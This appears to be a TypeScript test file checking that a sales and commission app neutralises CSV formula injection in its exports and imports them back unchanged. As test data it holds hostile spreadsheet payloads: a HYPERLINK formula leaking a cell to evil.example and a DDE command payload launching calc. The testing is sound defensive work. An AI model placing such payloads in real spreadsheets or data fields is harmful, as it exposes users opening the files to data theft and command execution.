// CSV injection: a text cell that begins with =, +, -, @, tab or CR is written with a leading '
// (OWASP's rule) in every CSV the app writes (customers, orders, products, stock, the P&L,
// commissions, statements), while numbers, negative amounts included, stay numbers. XLSX
// writes such text as a string cell already. The import takes the ' back off, so an export
// imports back unchanged. On a real SQLite store, through the core's methods.
import { afterEach, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { newBusiness, testClock, type TestBusiness } from '../support/store';
import { addAgent } from '../support/agent-fixtures';
import { receiveStock } from '../support/order-fixtures';
import { csvLine } from '../../core/exports/write';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
const NOTES = '=1+1';
const WECHAT = "=cmd|'/C calc'!A0";
const SUM = '@SUM(1,2)';
const SKU = '=SKU()';
const AGENT = '-2+3';

let biz: TestBusiness;
let other: TestBusiness | undefined;
afterEach(async () => {
  await biz?.close();
  await other?.close();
  other = undefined;
});

/**
 * A business whose customer, product and agent carry the hostile values: one sale of the
 * product below its cost (gross profit -28.90), completed, part refunded (a negative
 * commission reversal), and settled into a statement.
 */
async function hostileBusiness() {
  biz = await newBusiness({ clock: testClock('2026-03-15T10:00:00+08:00') });
  const agentId = await addAgent(biz, { name: AGENT, tier: 'general' });
  await biz.core.invoke('plan.create', {
    name: '标准方案',
    effectiveFrom: '2026-01-01',
    base: 'net',
    rates: [1000],
  });
  const customer = await biz.core.invoke('customer.create', {
    name: HYPERLINK,
    phone: '13812345678',
    wechatId: WECHAT,
    source: SUM,
    notes: NOTES,
  });
  const product = await biz.core.invoke('product.create', {
    sku: SKU,
    name: HYPERLINK,
    category: SUM,
    retailPrice: 2110,
  });
  await receiveStock(biz, product.id, 10, 5000);
  const order = await biz.core.invoke('order.create', {
    customerId: customer.id,
    agentId,
    lines: [{ productId: product.id, quantity: 2, unitPrice: 2110 }],
  });
  await biz.core.invoke('order.markPaid', { orderId: order.id, paidOn: '2026-03-15' });
  await biz.core.invoke('order.complete', { id: order.id });
  await biz.core.invoke('refund.create', {
    orderId: order.id,
    lines: [{ lineId: order.lines[0]!.id, quantity: 1 }],
    restock: true,
    refundedOn: '2026-03-16',
  });
  const statement = await biz.core.invoke('settlement.generate', {
    agentId,
    periodTo: '2026-03-31',
    asOf: '2026-04-30',
  });
  return { agentId, statementId: statement.id };
}

/** The CSV's records (BOM and notes included), as a spreadsheet would read its cells. */
function records(file: string): string[][] {
  return parse(readFileSync(file, 'utf8'), {
    bom: true,
    relax_column_count: true,
  }) as string[][];
}

/** No cell a spreadsheet would run: only numbers may begin with '-'. */
function expectNoFormulas(rows: string[][]) {
  for (const cell of rows.flat()) {
    expect(cell, cell).not.toMatch(/^[=+@\t\r\uFF1D\uFF0B\uFF20]/);
    if (cell.startsWith('-') || cell.startsWith('\uFF0D')) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
  }
}

/** The row whose cell under `header` equals `value`, as header -> cell. */
function rowWith(rows: string[][], header: string, value: string): Record<string, string> {
  const [head, ...body] = rows;
  const at = head!.indexOf(header);
  expect(at, `${header} in ${head!.join(',')}`).toBeGreaterThanOrEqual(0);
  const row = body.find((r) => r[at] === value);
  expect(row, `a row with ${header} = ${value}`).toBeDefined();
  return Object.fromEntries(head!.map((h, i) => [h, row![i]!]));
}

describe('CSV exports neutralise formulas', () => {
  it('every leading character of OWASP rule gets a quote; numbers, negative ones too, do not', () => {
    const cells = [
      '=1+1',
      '+1',
      '-1',
      '@A1',
      '\t=1',
      '\r=1',
      '＝1',
      'ok',
      '1-1',
      "'=x",
      'a\nb',
      -28.9,
      5,
    ];
    const [row] = parse(csvLine(cells)) as string[][];
    expect(row).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@A1",
      "'\t=1",
      "'\r=1",
      "'＝1",
      'ok',
      '1-1',
      "'=x",
      'a\nb',
      '-28.9',
      '5',
    ]);
  });

  it('customers, orders, products and stock movements', async () => {
    await hostileBusiness();
    const file = (name: string) => join(biz.dir, name);
    for (const kind of ['customers', 'orders', 'products', 'stock'] as const) {
      await biz.core.invoke('export.run', { kind, file: file(`${kind}.csv`), unmasked: true });
      expectNoFormulas(records(file(`${kind}.csv`)));
    }

    expect(rowWith(records(file('customers.csv')), '姓名', `'${HYPERLINK}`)).toMatchObject({
      微信号: `'${WECHAT}`,
      来源: `'${SUM}`,
      备注: `'${NOTES}`,
    });
    // Quoted as RFC 4180 asks, with the ' inside the quotes.
    expect(readFileSync(file('customers.csv'), 'utf8')).toContain(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`,
    );

    const order = rowWith(records(file('orders.csv')), '商品编码', `'${SKU}`);
    expect(order).toMatchObject({
      客户: `'${HYPERLINK}`,
      商品名称: `'${HYPERLINK}`,
      分类: `'${SUM}`,
      数量: '2',
      单价: '21.10',
      // Sold at 21.10 each, bought at 50.00: a loss, written as a number.
      利润: '-57.80',
      已退款: '21.10',
    });

    expect(rowWith(records(file('products.csv')), '商品编码', `'${SKU}`)).toMatchObject({
      商品名称: `'${HYPERLINK}`,
      分类: `'${SUM}`,
      零售价: '21.10',
    });

    const stock = records(file('stock.csv'));
    const sale = stock.find((r) => r[1] === `'${SKU}` && r[4] === '-2');
    expect(sale, JSON.stringify(stock)).toBeDefined();
    expect(sale![2]).toBe(`'${HYPERLINK}`);
    expect(sale![6]).toBe('-100.00');
  });

  it('the P&L by product, customer and agent; commissions; a statement', async () => {
    const { statementId } = await hostileBusiness();
    const file = (name: string) => join(biz.dir, name);
    const range = { from: '2026-03-01', to: '2026-03-31' };
    for (const by of ['product', 'customer', 'agent'] as const) {
      await biz.core.invoke('report.export', { ...range, by, file: file(`pnl-${by}.csv`) });
      const rows = records(file(`pnl-${by}.csv`));
      expectNoFormulas(rows);
      // A product's row reads "name (SKU)".
      const label = by === 'agent' ? `'${AGENT}` : `'${HYPERLINK}`;
      // One sold and kept at 21.10, cost 50.00: gross profit -28.90, a number.
      expect(rows.find((r) => r[0]!.startsWith(label))?.slice(1, 4), JSON.stringify(rows)).toEqual([
        '21.10',
        '50.00',
        '-28.90',
      ]);
    }

    await biz.core.invoke('commission.reportExport', { ...range, file: file('commissions.csv') });
    const commissions = records(file('commissions.csv'));
    expectNoFormulas(commissions);
    expect(commissions.some((r) => r[0] === `'${AGENT}`)).toBe(true);

    await biz.core.invoke('settlement.export', { id: statementId, file: file('statement.csv') });
    const statement = records(file('statement.csv'));
    expectNoFormulas(statement);
    const lines = statement.filter((r) => r[3] === `'${SKU}`);
    expect(lines.map((r) => [r[4], r[9]])).toEqual([
      [`'${HYPERLINK}`, '4.22'],
      [`'${HYPERLINK}`, '-2.11'],
    ]);
  });

  it('the CSV imports back into another store with the values as they were', async () => {
    await hostileBusiness();
    const customers = join(biz.dir, 'customers.csv');
    const products = join(biz.dir, 'products.csv');
    await biz.core.invoke('export.run', { kind: 'customers', file: customers, unmasked: true });
    await biz.core.invoke('export.run', { kind: 'products', file: products });

    other = await newBusiness();
    for (const [kind, file] of [
      ['customers', customers],
      ['products', products],
    ] as const) {
      const r = await other.core.invoke('import.run', { kind, file });
      expect(r.errors).toEqual([]);
      expect(r.inserted).toBe(1);
    }
    expect(
      other.store.sqlite.prepare('SELECT name, wechat_id, source, notes FROM customers').get(),
    ).toEqual({ name: HYPERLINK, wechat_id: WECHAT, source: SUM, notes: NOTES });
    expect(other.store.sqlite.prepare('SELECT sku, name, category FROM products').get()).toEqual({
      sku: SKU,
      name: HYPERLINK,
      category: SUM,
    });

    // Exported again, the same file: neutralised again, not quoted twice.
    const again = join(other.dir, 'customers.csv');
    await other.core.invoke('export.run', { kind: 'customers', file: again, unmasked: true });
    expect(records(again)[1]).toEqual(records(customers)[1]);
  });

  it('XLSX keeps the text as a string cell, never a formula (left as it is)', async () => {
    await hostileBusiness();
    const file = join(biz.dir, 'customers.xlsx');
    await biz.core.invoke('export.run', { kind: 'customers', file, unmasked: true });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const row = workbook.worksheets[0]!.getRow(2);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(2).value).toBe(HYPERLINK);
    expect(row.getCell(7).value).toBe(NOTES);
  });
});
